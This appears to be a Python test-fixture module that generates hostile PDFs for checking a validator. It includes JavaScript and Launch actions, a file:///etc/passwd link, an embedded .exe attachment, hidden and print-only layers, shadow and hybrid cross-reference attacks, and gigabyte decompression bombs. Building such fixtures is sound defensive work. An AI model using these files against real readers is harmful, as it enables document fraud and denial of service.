"""人を欺き、あるいは受け取る側を止めようとする PDF。どれも、ここで数行から作る。"""

import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

Change = Callable[[Pdf], None]
PLAIN = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def pdf(change: Change = lambda _pdf: None, **saving: object) -> bytes:
    """Make one A4 page with a line of text, changed in one way."""
    with pikepdf.new() as made:
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Contents = made.make_stream(b"BT /F1 24 Tf 72 700 Td (Contract) Tj ET 72 690 200 2 re f")
        page.obj.Resources = Dictionary(Font=Dictionary(F1=type3(made)))
        change(made)
        output = BytesIO()
        made.save(output, **saving)
        return output.getvalue()


def type3(made: Pdf) -> pikepdf.Object:
    """Make a font whose glyphs are in the file: each letter a box as wide as its code is high."""
    glyphs = {
        f"g{code}": made.make_stream(b"600 0 0 0 %d 700 d1 0 0 %d 700 re f" % (code * 4, code * 4)) for code in CODES
    }
    return made.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type3,
            FontBBox=[0, 0, 600, 700],
            FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
            FirstChar=CODES[0],
            LastChar=CODES[-1],
            Widths=[600] * len(CODES),
            CharProcs=Dictionary({f"/{name}": glyph for name, glyph in glyphs.items()}),
            Encoding=Dictionary(Differences=[CODES[0], *(Name(f"/{name}") for name in glyphs)]),
        )
    )


CODES = range(32, 127)


def action(**entries: object) -> Dictionary:
    return Dictionary(Type=Name.Action, **entries)


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}


def annotate(made: Pdf, **entries: object) -> pikepdf.Object:
    """Put one annotation on the first page."""
    made_one = made.make_indirect(Dictionary(**{"Type": Name.Annot, "Rect": [72, 600, 272, 640]} | entries))
    made.pages[0].obj.Annots = Array([*made.pages[0].obj.get("/Annots", []), made_one])
    return made_one


def drawn(made: Pdf, text: bytes = b"100") -> Dictionary:
    """Draw an appearance of 200 by 40 points."""
    look = made.make_stream(b"0.9 g 0 0 200 40 re f 0 g BT /F1 20 Tf 4 8 Td (%s) Tj ET" % text)
    look.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 40]))
    look.Resources = Dictionary(Font=Dictionary(F1=made.pages[0].obj.Resources.Font.F1))
    return Dictionary(N=look)


# ── 動くもの ──────────────────────────────────────────────
def opening_script(made: Pdf) -> None:
    made.Root.OpenAction = action(**SCRIPT)


def named_script(made: Pdf) -> None:
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(action(**SCRIPT))]))
    )


def launch(made: Pdf) -> None:
    annotate(made, Subtype=Name.Link, A=action(S=Name.Launch, F=String("calc.exe")))


def chained_script(made: Pdf) -> None:
    web = action(S=Name.URI, URI=String("https://example.jp/"), Next=Array([action(**SCRIPT)]))
    annotate(made, Subtype=Name.Link, A=web)


def page_action(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=action(S=Name.Named, N=Name.Print))


def submit(made: Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(action(S=Name.SubmitForm, F=String("https://example.jp/")))


def remote(made: Pdf) -> None:
    annotate(made, Subtype=Name.Link, A=action(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])))


def file_link(made: Pdf) -> None:
    annotate(made, Subtype=Name.Link, A=action(S=Name.URI, URI=String("file:///etc/passwd")))


def script_link(made: Pdf) -> None:
    annotate(made, Subtype=Name.Link, A=action(S=Name.URI, URI=String(" JavaScript:alert(1)")))


def bookmark_script(made: Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("a"), A=made.make_indirect(action(**SCRIPT))))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def spawned_page(made: Pdf) -> None:
    hidden = made.make_indirect(Dictionary(Type=Name.Template, MediaBox=[0, 0, 9, 9]))
    made.Root.Names = Dictionary(Templates=Dictionary(Names=Array([String("t"), hidden])))


def unheard_of_place(made: Pdf) -> None:
    """Keep a script where no rule of PDF looks for one, and nobody knows how to take it out."""
    made.Root.PieceInfo = Dictionary(Own=Dictionary(Private=action(**SCRIPT)))


# ── 中身を持つもの ────────────────────────────────────────
def attachment(made: Pdf) -> None:
    made.attachments["mitsumori.exe"] = b"MZ"


def attached_by_annotation(made: Pdf) -> None:
    annotate(made, Subtype=Name.FileAttachment)


def portfolio(made: Pdf) -> None:
    made.Root.Collection = Dictionary()


def movie(made: Pdf) -> None:
    annotate(made, Subtype=Name.Screen)


def rich_media(made: Pdf) -> None:
    annotate(made, Subtype=Name.RichMedia)


def xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))


def external_stream(made: Pdf) -> None:
    made.pages[0].obj.Contents.F = String("elsewhere.txt")


def reference_page(made: Pdf) -> None:
    proxy = made.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    proxy.Ref = Dictionary(F=String("other.pdf"), Page=0)
    made.pages[0].obj.Resources.XObject = Dictionary(X1=proxy)


# ── 画面と紙で違うもの、隠れたもの ────────────────────────
def layer(made: Pdf, **options: object) -> pikepdf.Object:
    """Draw a bar on a layer of its own."""
    group = made.make_indirect(Dictionary(Type=Name.OCG, Name=String("金額"), **options))
    made.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(Order=Array([group])))
    made.pages[0].obj.Resources.Properties = Dictionary(L1=group)
    old = made.pages[0].obj.Contents.read_bytes()
    made.pages[0].obj.Contents = made.make_stream(old + b" /OC /L1 BDC 72 500 300 20 re f EMC")
    return group


def hidden_layer(made: Pdf) -> None:
    group = layer(made)
    made.Root.OCProperties.D.OFF = Array([group])


def layers_off_at_first(made: Pdf) -> None:
    layer(made)
    made.Root.OCProperties.D.BaseState = Name.OFF


def layer_not_printed(made: Pdf) -> None:
    layer(made, Usage=Dictionary(Print=Dictionary(PrintState=Name.OFF)))


def layer_by_expression(made: Pdf) -> None:
    group = layer(made)
    made.pages[0].obj.Resources.Properties.L1 = made.make_indirect(
        Dictionary(Type=Name.OCMD, OCGs=group, VE=Array([Name.Not, group]))
    )


def layer_when_others_are_off(made: Pdf) -> None:
    group = layer(made)
    made.pages[0].obj.Resources.Properties.L1 = made.make_indirect(
        Dictionary(Type=Name.OCMD, OCGs=group, P=Name.AllOff)
    )


def hidden_annotation(made: Pdf) -> None:
    annotate(made, Subtype=Name.FreeText, F=2, AP=drawn(made))


def printed_only(made: Pdf) -> None:
    annotate(made, Subtype=Name.Stamp, F=4 | 32, AP=drawn(made))


def printed_field(made: Pdf) -> None:
    field(made, F=4 | 32)


def postscript(made: Pdf) -> None:
    other = made.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)
    made.pages[0].obj.Resources.XObject = Dictionary(X1=other)


def alternate_image(made: Pdf) -> None:
    def image(colour: bytes) -> pikepdf.Object:
        return made.make_stream(
            colour,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=1,
            Height=1,
            BitsPerComponent=8,
            ColorSpace=Name.DeviceGray,
        )

    shown = image(b"\0")
    shown.Alternates = Array([Dictionary(Image=image(b"\xff"), DefaultForPrinting=True)])
    made.pages[0].obj.Resources.XObject = Dictionary(X1=shown)
    made.pages[0].obj.Contents = made.make_stream(b"q 100 0 0 100 72 72 cm /X1 Do Q")


# ── 入力欄 ────────────────────────────────────────────────
def field(made: Pdf, text: bytes = b"100", **entries: object) -> None:
    """Put a filled and drawn text field on the page."""
    entries = {"F": 4, "FT": Name.Tx, "T": String("金額"), "V": String("100"), "AP": drawn(made, text)} | entries
    made_one = annotate(made, Subtype=Name.Widget, **entries)
    made.Root.AcroForm = Dictionary(Fields=Array([made_one]), DA=String("/Helv 12 Tf 0 g"))


def undrawn_field(made: Pdf) -> None:
    """Leave drawing the value to whoever opens the file."""
    field(made)
    del made.pages[0].obj.Annots[0]["/AP"]
    helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    made.Root.AcroForm.DR = Dictionary(Font=Dictionary(Helv=helvetica))
    made.pages[0].obj.Annots[0].DA = String("/Helv 24 Tf 0 g")


def redrawn_field(made: Pdf) -> None:
    field(made)
    made.Root.AcroForm.NeedAppearances = True


def redraw_without_fields(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), NeedAppearances=True)


def orphaned_field(made: Pdf) -> None:
    """Leave a field on the page that no form knows of."""
    field(made)
    del made.Root["/AcroForm"]


def calculated_field(made: Pdf) -> None:
    field(made, AA=Dictionary(C=action(**SCRIPT)))


def empty_signature_field(made: Pdf) -> None:
    annotate(made, Subtype=Name.Widget, FT=Name.Sig, T=String("FIELD_2336416_0"), Rect=[0, 0, 0, 0], F=132)
    made.Root.AcroForm = Dictionary(Fields=Array([made.pages[0].obj.Annots[0]]), SigFlags=1)


def usage_rights(made: Pdf) -> None:
    rights = made.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("x")))
    made.Root.Perms = Dictionary(UR3=rights)


# ── 大きすぎるもの ────────────────────────────────────────
def no_pages(made: Pdf) -> None:
    del made.pages[0]


def many_annotations(made: Pdf) -> None:
    note = made.make_indirect(Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9]))
    made.pages[0].obj.Annots = Array([note] * 2001)


def inflated(made: Pdf) -> None:
    bomb = Stream(made, b"")
    bomb.write(packed(b"", 1024), filter=Name.FlateDecode)
    made.pages[0].obj.Contents = bomb


def metadata_bomb() -> bytes:
    bomb = packed(b"", 1024)
    stream = b"<</Type/Metadata/Subtype/XML/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(bomb), bomb)
    catalog = LETTERS[0].replace(b"/Pages", b"/Metadata 5 0 R/Pages")
    return written(dict(enumerate([catalog, *LETTERS[1:], content(b""), stream], 1)))


def stacked(made: Pdf) -> None:
    bomb = Stream(made, b"")
    bomb.write(zlib.compress(zlib.compress(bytes(1 << 20))), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    made.pages[0].obj.Contents = bomb


def behind_text(made: Pdf) -> None:
    """Wrap the bomb in hexadecimal digits, so that Flate is not the first filter."""
    bomb = Stream(made, b"")
    bomb.write(packed(b"", 1024).hex().encode() + b">", filter=Array([Name.ASCIIHexDecode, Name.FlateDecode]))
    made.pages[0].obj.Contents = bomb


def huge_image(made: Pdf) -> None:
    image = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000)
    image.update(Dictionary(BitsPerComponent=8, ColorSpace=Name.DeviceGray))
    made.pages[0].obj.Resources.XObject = Dictionary(X1=image)


def packed(head: bytes, megabytes: int) -> bytes:
    """Deflate a head and megabytes of spaces, compressing one megabyte and repeating it."""
    deflater = zlib.compressobj(9, wbits=-15)
    start = deflater.compress(head) + deflater.flush(zlib.Z_FULL_FLUSH)
    spaces = b" " * (1 << 20)
    block = deflater.compress(spaces) + deflater.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(head)
    for _megabyte in range(megabytes):
        checksum = zlib.adler32(spaces, checksum)
    return b"\x78\xda" + start + block * megabytes + b"\x03\x00" + checksum.to_bytes(4, "big")


def object_stream_bomb() -> bytes:
    """Write a file whose only object stream inflates to a gigabyte."""
    head = b"1 0 2 40 3 90 "
    objects = b"<</Type/Catalog/Pages 2 0 R>>".ljust(40) + b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(50)
    objects += b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    content = packed(head + objects, 1024)
    body = b"%PDF-1.7\n"
    stream_at = len(body)
    body += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(head), len(content))
    body += content + b"\nendstream\nendobj\n"
    table_at = len(body)
    rows = [
        b"\0\0\0\0\0\0",
        *(b"\2\0\0\0\4" + bytes([n]) for n in range(3)),
        b"\1" + stream_at.to_bytes(4, "big") + b"\0",
        b"\1" + table_at.to_bytes(4, "big") + b"\0",
    ]
    table = b"".join(rows)
    body += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


# ── ファイルの形 ──────────────────────────────────────────
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>"
LETTERS = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE)


def content(drawing: bytes) -> bytes:
    return b"<</Length %d>>stream\n%s\nendstream" % (len(drawing), drawing)


def written(objects: dict[int, bytes], *, size: int = 0, rows: dict[int, int] | None = None) -> bytes:
    """Write objects by hand with a classic table; `rows` lets the table point elsewhere."""
    body, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, value in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    return bytes(body) + table(places | (rows or {}), at=len(body), size=size or max(objects) + 1)


def table(places: dict[int, int], *, at: int, size: int, previous: int = -1, more: bytes = b"") -> bytes:
    """Write a cross-reference table with one subsection for each number, its trailer and its end."""
    sections = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(places.items()))
    before = b"/Prev %d" % previous if previous >= 0 else b""
    trailer = b"trailer\n<</Size %d/Root 1 0 R%s%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, before, more, at)
    return b"xref\n" + (b"" if previous >= 0 else b"0 1\n0000000000 65535 f \n") + sections + trailer


def letter(drawing: bytes = b"72 700 200 20 re f", *more: bytes, **options: object) -> bytes:
    """Write a page of one drawing by hand; further objects from number 5 on."""
    values = [*LETTERS, content(drawing), *more]
    return written(dict(enumerate(values, 1)), **options)  # type: ignore[arg-type]


def updated(before: bytes, objects: dict[int, bytes], *, size: int) -> bytes:
    """Append a revision."""
    body, places = before, {}
    for number, value in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    previous = int(before[before.rindex(b"startxref") :].split()[1])
    return body + table(places, at=len(body), size=size, previous=previous)


def replaced() -> bytes:
    """Keep the text of an earlier revision below the one that is shown."""
    return updated(letter(), {4: content(b"72 300 50 20 re f")}, size=5)


def shadow() -> bytes:
    """Hide a second content in the file that nothing shows: a shadow attack's first half (hide-and-replace)."""
    return letter(b"72 700 200 20 re f", content(b"72 300 50 20 re f"))


def shadow_between() -> bytes:
    """Hide a second content between the objects, where no table lists it."""
    plain = letter()
    at = plain.rindex(b"xref\n0 1")
    hidden = b"5 0 obj\n" + content(b"72 300 50 20 re f") + b"\nendobj\n"
    return plain[:at] + hidden + plain[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))


def dangling() -> bytes:
    """Refer to an object that a later update could provide."""
    values = [*LETTERS[:2], PAGE.replace(b"<<>>", b"<</XObject<</X1 99 0 R>>>>"), content(b"72 700 200 20 re f")]
    return written(dict(enumerate(values, 1)))


def hybrid() -> bytes:
    """Give the page two contents: old readers follow the table, new ones the stream beside it."""
    plain = letter()
    at = plain.rindex(b"xref\n0 1")
    stream_at = at + len(b"5 0 obj\n" + content(b"72 300 50 20 re f") + b"\nendobj\n")
    body = plain[:at] + b"5 0 obj\n" + content(b"72 300 50 20 re f") + b"\nendobj\n"
    rows = b"\1" + at.to_bytes(4, "big") + b"\0"
    body += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Index[5 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    body += rows + b"\nendstream\nendobj\n"
    places = {n: plain.index(b"%d 0 obj" % n) for n in range(1, 5)}
    return body + table(places, at=len(body), size=7, more=b"/XRefStm %d" % stream_at)


def low_size() -> bytes:
    """Claim fewer objects than there are, so that a new one would take the place of an old one."""
    return letter(size=3)


def high_size() -> bytes:
    return letter(size=5000)


def absurd_size() -> bytes:
    return letter(size=2**31)


def loop() -> bytes:
    """Let the cross-reference lead back to itself."""
    plain = letter()
    at = plain.rindex(b"xref\n0 1")
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def page_loop() -> bytes:
    values = [LETTERS[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>", PAGE, content(b"")]
    return written(dict(enumerate(values, 1)))


def nested(depth: int = 100_000) -> bytes:
    return letter(b"", b"[" * depth + b"]" * depth)


def many_objects(count: int = 300_000) -> bytes:
    return letter(b"", *([b"<<>>"] * count))


def many_direct_annotations(count: int = 200_000) -> bytes:
    notes = b"<</Subtype/Link/Rect[0 0 9 9]>>" * count
    values = [*LETTERS[:2], PAGE.replace(b"/Resources", b"/Annots[" + notes + b"]/Resources"), content(b"")]
    return written(dict(enumerate(values, 1)))


def sized(box: bytes) -> bytes:
    values = [*LETTERS[:2], PAGE.replace(b"[0 0 595 842]", box), content(b"72 700 200 20 re f")]
    return written(dict(enumerate(values, 1)))


def repeated_key() -> bytes:
    """Name the page's content twice; readers disagree which one counts."""
    page = PAGE.replace(b"/Contents 4 0 R", b"/Contents 4 0 R/Contents 5 0 R")
    values = [*LETTERS[:2], page, content(b"72 700 200 20 re f"), content(b"72 300 50 20 re f")]
    return written(dict(enumerate(values, 1)))
